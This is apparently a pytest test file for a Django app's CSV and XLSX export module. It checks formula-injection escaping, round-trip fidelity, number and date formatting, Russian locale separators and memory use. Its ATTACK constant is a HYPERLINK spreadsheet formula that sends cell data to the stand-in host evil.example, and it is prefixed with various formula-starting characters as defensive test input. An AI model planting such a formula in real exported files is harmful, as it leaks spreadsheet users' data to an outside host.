"""Exports: harmless in a spreadsheet, unchanged on the way back, flat in memory."""

import csv
import io
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from servicebook.core import exports
from servicebook.core.errors import Refused
from servicebook.core.exports import Column, export, harmless, original

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "'=", "''+", "\ufeff="]
ATTACK = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
XML_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


def whole(pieces: Iterator[str]) -> str:
    return "".join(pieces)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def sheet_of(lines: list[list[Any]]) -> Any:
    with exports.xlsx_file(lines) as file:
        return load_workbook(file).active


@pytest.mark.trust("B10")
@pytest.mark.parametrize("start", STARTS)
def test_no_cell_of_an_export_begins_like_a_formula(start):
    text = start + ATTACK
    cell = read_back(whole(exports.csv_pieces([[text]])))[0][0]

    assert cell[0] == "'"
    assert original(cell) == text


@pytest.mark.trust("B10")
@pytest.mark.parametrize("start", STARTS)
def test_a_sheet_holds_texts_and_no_formula(start):
    cell = sheet_of([["Title"], [start + ATTACK]])["A2"]

    assert cell.data_type == "s"
    assert exports.xlsx_text(cell.value) == start + ATTACK


@pytest.mark.trust("B10")
@given(st.one_of(XML_TEXT, st.builds(str.__add__, st.sampled_from(STARTS), XML_TEXT)))
def test_harmless_text_comes_back_as_it_was(text):
    assert original(harmless(text)) == text
    assert not harmless(text).startswith(tuple("=+-@\t\r\n＝＋－＠"))


@given(st.lists(st.lists(XML_TEXT, min_size=2, max_size=2), min_size=1, max_size=5))
@settings(max_examples=60)
def test_a_csv_read_back_is_the_table_that_was_written(rows):
    text = whole(exports.csv_pieces(rows))

    assert [[original(cell) for cell in row] for row in read_back(text)] == rows


@pytest.mark.slow
@given(st.lists(XML_TEXT.filter(bool), min_size=1, max_size=4))
@settings(max_examples=40, deadline=None)
def test_a_sheet_read_back_is_the_table_that_was_written(cells):
    sheet = sheet_of([["Heading"], cells])

    assert [exports.xlsx_text(str(cell.value)) for cell in sheet[2][: len(cells)]] == cells


def test_numbers_and_dates_stay_numbers_and_dates():
    row = [Decimal("-12.50"), 7, date(2026, 10, 14), datetime(2026, 10, 14, 4, 12, tzinfo=UTC), None, "+7701"]

    assert read_back(whole(exports.csv_pieces([row])))[0] == [
        "-12.50", "7", "2026-10-14", "2026-10-14 09:12", "", "'+7701",
    ]  # fmt: skip
    sheet = sheet_of([["H"] * 6, row])
    assert [cell.value for cell in sheet[2]] == [
        Decimal("-12.5"), 7, datetime(2026, 10, 14), datetime(2026, 10, 14, 9, 12), None, "+7701",  # noqa: DTZ001
    ]  # fmt: skip


def test_a_reader_of_russian_gets_semicolons_and_a_decimal_comma():
    with translation.override("ru"):
        text = whole(exports.csv_pieces([["a", Decimal("1.5")]]))

    assert text == "\ufeffa;1,5\r\n"


def test_a_list_becomes_a_download_in_both_formats():
    columns = [Column("Name", str.upper), Column("Length", len)]

    as_csv = export(["abc"], columns, "csv", "names")
    as_xlsx = export(["abc"], columns, "xlsx", "names")

    assert as_csv["Content-Disposition"] == 'attachment; filename="names.csv"'
    assert as_csv.getvalue().decode("utf-8-sig") == "Name,Length\r\nABC,3\r\n"
    sheet = load_workbook(io.BytesIO(as_xlsx.getvalue())).active
    as_xlsx.file_to_stream.close()
    assert [[cell.value for cell in row] for row in sheet] == [["Name", "Length"], ["ABC", 3]]
    with pytest.raises(Refused, match="csv or xlsx"):
        export([], columns, "exe", "names")  # type: ignore[arg-type]


@pytest.mark.slow
def test_a_long_list_takes_no_more_memory_than_a_short_one():
    columns = [Column("Number", str), Column("Text", lambda number: "text " * 20)]
    peaks = []
    for length in (2_000, 60_000):
        tracemalloc.start()
        for _piece in exports.csv_pieces(exports.table(range(length), columns)):
            pass
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()

    assert peaks[1] < peaks[0] * 1.5
